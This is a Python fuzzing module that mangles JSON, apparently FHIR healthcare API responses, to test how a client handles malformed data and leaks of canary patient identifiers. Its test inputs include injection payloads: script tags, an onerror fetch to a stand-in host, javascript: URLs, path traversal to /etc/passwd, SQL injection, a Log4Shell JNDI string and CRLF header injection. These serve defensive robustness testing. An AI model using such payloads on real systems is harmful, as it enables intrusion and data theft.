"""Spoiling JSON: members that are missing, null, of a wrong type, huge, deep or cyclic; and bytes that are no JSON.

Everything drawn comes from one `random.Random`, so that a seed tells the whole request.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable, Iterator
from random import Random
from typing import Any

MARK = re.compile(r"(?i)zq7|010170-9|zq7%20")
"""What is found in every canary: no log, metric, error or address may hold it."""
CANARIES = (
    "Zq7Sukunimi, Aino",
    "010170-999R",
    "zq7-4711",
    "aino.zq7@example.fi",
    "urn:oid:1.2.246.21|010170-999R",
)
"""What stands for a patient: a name, an identity code of the artificial range, an id, an address, an identifier."""
HTML = (
    "<script>alert('Zq7')</script>",
    '<img src=x onerror="fetch(`//zq7.example`)">',
    "[Zq7](javascript:alert(1))",
    "![Zq7](https://zq7.example/x.png)",
    "</td></table><h1>Zq7",
    "&lt;b&gt;Zq7&amp;",
    "`Zq7` **Zq7** _Zq7_ # Zq7\n- Zq7",
)
DATES = (
    "2026-13-45", "0000-00-00", "2026-02-30", "9999-12-31T23:59:59Z", "0001-01-01", "2026-11-22T24:00:00Z", "2026",
    "2026-11", "2026-11-22T10:00", "2026-11-22T10:00:60+02:00", "2026-11-22T10:00:00+99:00", "-0044-03-15", "20261122",
    "2026-11-22T10:00:00.123456789+02:00", "22.11.2026", "yesterday", "", " 2026-11-22 ", "2026-W47-7", "1582-10-10",
    "9999-12-31T23:59:59.999999-12:00", "0001-01-01T00:00:00+14:00", "Zq7-11-22",
)  # fmt: skip
TEXTS = (
    "", " ", "\0", "\ud800", "\u202eZq7", "😀" * 50, "ÄÖÅ" * 30, "null", "true", "-1", "../../etc/passwd", "%00%0a",
    "' OR 1=1 --", "{{context.patientId}}", "${jndi:ldap://zq7.example}", "\r\nX-Zq7: 1", "urn:uuid:zq7",
    "Patient/zq7-4711",
)  # fmt: skip
NUMBERS = (
    0,
    -1,
    1,
    0.5,
    -0.0,
    1e308,
    -1e308,
    2**31,
    2**53 + 1,
    2**63,
    -(2**63) - 1,
    2**64,
    10**30,
    float("nan"),
    float("inf"),
)
PAGES = (
    "https://zq7.example/Encounter?page=2", "//zq7.example/x", "Encounter?page=2", "", "?", "javascript:alert(1)",
    "file:///etc/passwd", "https://fhir.example.fi/r4/Encounter?page=2", "https://fhir.example.fi/r4/Encounter?patient=zq7-4711",
    "http://[::1", "https://fhir.example.fi:99999/", "https://fhir.example.fi/" + "a" * 5_000, "\0", "https://fhir.example.fi\\@zq7.example/",
)  # fmt: skip
OUTCOME = {
    "resourceType": "OperationOutcome",
    "issue": [{"severity": "error", "code": "exception", "diagnostics": "Patient 010170-999R is not to be seen"}],
}
DEEP = "@@deep:{}@@"
_DEEP = re.compile(rb'"@@deep:(\d+)@@"')
Place = tuple[Any, Any]


class Mutator:
    """Spoils values in many ways, as one random source says."""

    def __init__(self, random: Random) -> None:
        self.random = random
        self._ways: tuple[Callable[[Place], None], ...] = (
            self._drop, self._null, self._other, self._other, self._text, self._text, self._number, self._date,
            self._date,
            self._huge, self._deep, self._repeat, self._swap, self._wrap, self._unwrap, self._rename, self._outcome,
            self._page, self._cycle, self._add,
        )  # fmt: skip

    def value(self, value: Any) -> Any:
        """A copy of a value, spoiled in one to six places."""
        root = [copy.deepcopy(value)]
        for _ in range(self.random.choice((1, 1, 1, 2, 2, 3, 6))):
            places = list(_places(root)) or [(root := [None], 0)]
            self.random.choice(self._ways)(self.random.choice(places))
        return root[0] if root else None

    def body(self, value: Any) -> bytes:
        """A value as JSON; now and then as bytes that are none."""
        text = json.dumps(value, ensure_ascii=self.random.random() < 0.9).encode("utf-8", "surrogatepass")
        text = _DEEP.sub(lambda found: b"[" * int(found[1]) + b"]" * int(found[1]), text)
        return self._bytes(text) if self.random.random() < 0.06 else text

    def text(self) -> str:
        """A text that somebody might send, or nobody would."""
        return self.random.choice(self.random.choice((CANARIES, CANARIES, HTML, TEXTS, DATES)))

    def _bytes(self, text: bytes) -> bytes:
        at = self.random.randrange(len(text) + 1)
        ways: tuple[bytes, ...] = (
            text[:at], b"", b"\xef\xbb\xbf" + text, text.decode("utf-8", "replace").encode("utf-16"),
            text[:at] + b"\xff\xfe" + text[at:], text[:at] + bytes([self.random.randrange(256)]) + text[at + 1 :],
            text + text, text.replace(b":", b': 1e400, "x":', 1), b"[" * 100_000, text.replace(b"{", b'{"hook": 1,', 1),
            b"\x1f\x8b" + text, b" " * 1000 + text,
        )  # fmt: skip
        return self.random.choice(ways)

    def _any(self) -> Any:
        return self.random.choice(
            (
                None,
                True,
                False,
                [],
                {},
                [[]],
                {"": None},
                self.text(),
                self.random.choice(NUMBERS),
                [None],
                [self.text()] * 3,
            )
        )

    def _drop(self, place: Place) -> None:
        holder, key = place
        del holder[key]

    def _null(self, place: Place) -> None:
        place[0][place[1]] = None

    def _other(self, place: Place) -> None:
        place[0][place[1]] = self._any()

    def _text(self, place: Place) -> None:
        holder, key = place
        holder[key] = self.text() if self.random.random() < 0.7 else f"{holder[key]}"[:100] + self.text()

    def _number(self, place: Place) -> None:
        place[0][place[1]] = self.random.choice(NUMBERS)

    def _date(self, place: Place) -> None:
        place[0][place[1]] = self.random.choice(DATES)

    def _huge(self, place: Place) -> None:
        holder, key = place
        size = self.random.choice((300, 5_000, 200_000))
        holder[key] = self.random.choice(
            (self.text() * (size // 10), [copy.deepcopy(holder[key])] * min(size // 20, 300))
        )

    def _deep(self, place: Place) -> None:
        if self.random.random() < 0.5:
            place[0][place[1]] = DEEP.format(self.random.choice((100, 250, 300, 900, 1_100, 20_000)))
            return
        for _ in range(self.random.choice((5, 60))):
            self._wrap(place)

    def _repeat(self, place: Place) -> None:
        holder, key = place
        if isinstance(holder, list):
            holder.insert(0, copy.deepcopy(holder[key]))
        elif isinstance(holder[key], list):
            holder[key] = holder[key] * 3

    def _swap(self, place: Place) -> None:
        holder, key = place
        other = self.random.choice(list(_places([holder])))
        holder[key] = copy.deepcopy(other[0][other[1]])

    def _wrap(self, place: Place) -> None:
        holder, key = place
        holder[key] = [holder[key]] if self.random.random() < 0.5 else {"resource": holder[key]}

    def _unwrap(self, place: Place) -> None:
        holder, key = place
        inner = holder[key]
        if isinstance(inner, (list, dict)) and inner:
            holder[key] = inner[0] if isinstance(inner, list) else next(iter(inner.values()))

    def _rename(self, place: Place) -> None:
        holder, key = place
        if isinstance(holder, dict):
            holder[
                self.random.choice(("", "_", "Zq7", "__proto__", "resourceType", "extension", "\0", str(key).upper()))
            ] = holder.pop(key)

    def _outcome(self, place: Place) -> None:
        place[0][place[1]] = copy.deepcopy(OUTCOME)

    def _page(self, place: Place) -> None:
        holder, key = place
        link = [{"relation": "next", "url": self.random.choice(PAGES)}]
        if isinstance(holder[key], dict):
            holder[key]["link"] = link
        else:
            holder[key] = {"resourceType": "Bundle", "entry": [], "link": link}

    def _cycle(self, place: Place) -> None:
        holder, key = place
        if isinstance(holder[key], dict):
            inner = holder[key]
            inner |= {
                "id": "loop",
                "contained": [{"resourceType": "Encounter", "id": "loop", "partOf": {"reference": "#loop"}}],
                "partOf": {"reference": "Encounter/loop"},
                "encounter": {"reference": "#loop"},
                "subject": {"reference": self.random.choice(("#loop", "Patient/loop", "#", "Patient/zq7-4711"))},
            }

    def _add(self, place: Place) -> None:
        holder, _ = place
        if isinstance(holder, dict):
            holder[self.random.choice(("extension", "modifierExtension", "_id", "text", "contained", "Zq7"))] = (
                self._any()
            )
        else:
            holder.append(self._any())


def _places(value: Any) -> Iterator[Place]:
    """Every member and item within a list, as its holder and key; not all of very long lists."""
    for key in list(value) if isinstance(value, dict) else range(min(len(value), 50)):
        yield value, key
        if isinstance(value[key], (dict, list)):
            yield from _places(value[key])
